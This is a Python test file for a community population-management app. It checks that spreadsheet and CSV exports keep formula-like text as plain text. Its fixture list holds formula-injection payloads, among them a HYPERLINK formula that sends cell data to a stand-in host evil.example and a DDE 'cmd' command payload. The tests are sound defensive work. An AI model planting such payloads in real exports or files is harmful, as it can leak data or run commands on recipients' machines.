"""Exports are safe to open: text that a spreadsheet program would run as a formula stays text."""

from __future__ import annotations

import datetime as dt
import io
import zipfile
from collections.abc import Callable
from typing import Any

from openpyxl import load_workbook

from shequ.core.excel import csv_cell, write_workbook
from shequ.core.models import User
from tests.conftest import login

HOSTILE = ['=HYPERLINK("http://evil.example/?"&A2,"点击")', "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(A1:A9)",
           "\t=1+1", "\r=1+1"]


def _cells(data: bytes) -> list[list[Any]]:
    sheet = load_workbook(io.BytesIO(data)).active
    return [[(cell.value, cell.data_type) for cell in row] for row in sheet.iter_rows()]


def test_formula_like_text_is_written_as_text_and_numbers_stay_numbers() -> None:
    buffer = io.BytesIO()
    write_workbook(buffer, title="x", headers=["=header", "金额"],
                   rows=[[text, -5] for text in HOSTILE] + [["王秀英", dt.date(2024, 1, 2)]])

    cells = _cells(buffer.getvalue())
    assert cells[0] == [("=header", "s"), ("金额", "s")]
    # XML reads a carriage return back as a line feed; the cell is text either way.
    assert [row[0] for row in cells[1:-1]] == [(text.replace("\r", "\n"), "s") for text in HOSTILE]
    assert all(row[1] == (-5, "n") for row in cells[1:-1])
    assert cells[-1][0] == ("王秀英", "s")
    sheet_xml = zipfile.ZipFile(buffer).read("xl/worksheets/sheet1.xml")
    assert b"<f>" not in sheet_xml and b"<f " not in sheet_xml


def test_a_csv_cell_that_could_be_a_formula_gets_an_apostrophe() -> None:
    assert [csv_cell(text) for text in HOSTILE] == ["'" + text for text in HOSTILE]
    assert [csv_cell(value) for value in ("王秀英", -5, "", None)] == ["王秀英", -5, "", None]


def test_a_resident_named_like_a_formula_is_exported_as_plain_text(client: Any, admin: User,
                                                                     make_person: Callable) -> None:
    make_person(HOSTILE[0])

    response = login(client, admin).get("/population/people/", {"format": "xlsx"})

    data = b"".join(response.streaming_content)
    names = [row[0] for row in _cells(data)[1:]]
    assert (HOSTILE[0], "s") in names
    assert b"<f>" not in zipfile.ZipFile(io.BytesIO(data)).read("xl/worksheets/sheet1.xml")
